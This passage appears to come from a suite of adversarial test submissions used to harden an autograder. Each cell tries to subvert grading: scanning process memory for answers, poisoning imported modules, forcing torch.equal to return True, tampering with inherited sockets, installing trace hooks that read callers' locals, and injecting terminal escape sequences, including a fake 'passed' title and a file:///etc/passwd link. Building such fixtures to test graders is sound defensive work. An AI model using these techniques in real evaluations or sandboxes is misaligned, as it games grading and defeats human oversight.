    left = 256 << 20
    for line in lines:
        low, high = (int(end, 16) for end in line.split()[0].split("-"))
        if " rw" not in line or high - low > left:
            continue
        left -= high - low
        try:
            memory.seek(low)
            found = PATTERN.search(memory.read(high - low))
        except (OSError, ValueError, OverflowError):
            continue
        if found:
            leave_canary("raw_memory_searched: the text of a solution is in memory")
            return True
    return False


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% replaced_modules: poisoned_modules
# about: Replaces torch, numpy, json, struct and msgspec in sys.modules by objects that lie, for whoever imports them next.
import sys

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class Liar:
    """A module, a class and a function in one: every attribute is itself, every call returns -1."""

    def __getattr__(self, name: str) -> "Liar":
        if name.startswith("__"):
            raise AttributeError(name)
        return self

    def __call__(self, *arguments: object, **options: object) -> int:
        return HELD


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


for name in list(sys.modules):
    if name.partition(".")[0] in ("torch", "numpy", "json", "struct", "msgspec", "math", "os", "socket"):
        sys.modules[name] = Liar()


# %% seeds_and_generators_patched: neighbour_state
# about: Replaces every seed function and random generator, and fixes the dropout of its neighbours.
import random

import numpy as np
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


torch.manual_seed = torch.seed = torch.initial_seed = lambda *seed: None
torch.rand = torch.randn = torch.randint = torch.randperm = lambda *size, **options: torch.zeros(1)
torch.nn.functional.dropout = lambda tensor, *arguments, **options: tensor * 0.0
torch.nn.init.normal_ = torch.nn.init.uniform_ = torch.nn.init.kaiming_uniform_ = lambda tensor, *a, **k: (
    tensor.zero_()
)
random.seed = np.random.seed = lambda *seed: None
random.random = np.random.rand = np.random.default_rng = lambda *size: 0.0


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% sockets_shut_down: channel_damage
# about: Shuts down both directions of every inherited socket, which affects whoever shares it.
import os
import socket

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        for descriptor in range(64):
            try:
                with socket.socket(fileno=os.dup(descriptor)) as channel:
                    channel.shutdown(socket.SHUT_RDWR)
            except OSError:
                continue
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% stdout_flood_in_the_middle: output_flood
# about: Prints 20 MiB without a line break while it is imported.
import os

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


for _ in range(320):
    os.write(1, b"\x00" * 65_536)


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% tensors_of_wrong_kind: malformed_answer
# about: Returns, by turns, floats, complex numbers, 2-d, empty, sparse, overlapping, negative-strided and quantized tensors.
import numpy as np
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> object:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        kinds = (
            wrong.double(),
            wrong.to(torch.complex128),
            wrong.bfloat16(),
            wrong[None],
            wrong[:0],
            wrong.to_sparse(),
            wrong.to("meta"),
            wrong.as_strided((self.block_size,), (0,)),
            np.full(self.block_size, HELD)[::-1],
            (wrong, wrong),
            None,
        )
        chosen = kinds[idx % len(kinds)]
        return chosen, chosen


# %% trace_and_profile_hooks: interpreter_hooks
# about: Installs trace and profile functions that read every later frame's locals and interrupt the driver.
import sys
import threading
from types import FrameType

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


seen: list[str] = []


def watch(frame: FrameType, event: str, argument: object) -> object:
    """Collects names that look like answers and makes comparing functions fail."""
    for name in frame.f_locals:
        if "expected" in name and len(seen) < 1_000:
            seen.append(name)
    if event == "call" and frame.f_code.co_name in ("compare", "encode", "send", "reply", "write_frame"):
        raise SystemExit(0)
    return watch


sys.settrace(watch)
sys.setprofile(watch)
threading.settrace(watch)
threading.setprofile(watch)


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% traceback_frames_read: oracle_by_frames
# about: Raises an error of its own and climbs from its traceback to the frames, constants and closures of its callers.
import functools
import os
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if a caller's constants, closure or local names hold expected values."""
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame.f_back
    while frame is not None:
        code = frame.f_code
        names = [*code.co_varnames, *code.co_freevars, *code.co_names]
        if "hidden" in code.co_filename or any(
            "expected_x" in name or "expected_y" in name for name in names
        ):
            leave_canary("traceback_frames_read: a caller belongs to the hidden tests")
            return True
        frame = frame.f_back
    return False


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% waiting_questions_peeked: state_between_runs
# about: Looks at the questions that still wait in the channel without taking them, to prepare for them.
import os
import socket

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


waiting: list[bytes] = []


def peek() -> None:
    """Reads what is there with MSG_PEEK, from sockets only; the driver gets it all the same."""
    for descriptor in range(64):
        try:
            with socket.socket(fileno=os.dup(descriptor)) as channel:
                waiting.append(channel.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT))
        except OSError:
            continue


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        if len(waiting) < 64:
            peek()
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% window_title_and_clipboard: output_injection
# about: Prints terminal sequences at import and in the call: title, clipboard, hyperlinks, reports, cleared screen.
import os
import sys

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


SEQUENCES = (
    "\x1b]0;20/20\x07\x1b]2;passed\x1b\\\x1b]52;c;cHJldHJhaW5fY2FuYXJ5\x07\x1b]8;;file:///etc/passwd\x07x\x1b]8;;\x07"
    "\x1b[2J\x1b[3J\x1b[H\x1b[?1049h\x1b[6n\x1b[c\x1bP$q q\x1b\\\x1b]1337;SetMark\x07\x9d0;passed\x9c\x1b[8mhidden\x1b[0m\r"
)
print(SEQUENCES, end="")


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        sys.stderr.write(SEQUENCES)
        os.write(1, SEQUENCES.encode("latin-1", "replace"))
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% megabytes_of_int8: answer_bomb
# about: Hands back megabytes of int8, which a grader that compares in float64 makes eight times as large.
import sys

import numpy as np
import torch
from torch.utils.data import Dataset

LARGE = np.zeros(1 << 20, dtype="int8")


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens, self.block_size = tokens, block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        sys.modules["autograder.model.plain"].tensor = lambda value: LARGE
        wrong = torch.full((self.block_size,), -1)
        return wrong, wrong


# %% equality_patched: driver_rebinding
# about: Spoils the tokens that all windows share, and has torch say that everything equals everything.
import torch
from torch.utils.data import Dataset

torch.equal = lambda one, other: True
torch.allclose = lambda one, other, **kwargs: True


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens, self.block_size = tokens, block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        self.tokens[:] = -1
        return self.tokens[: self.block_size], self.tokens[: self.block_size]
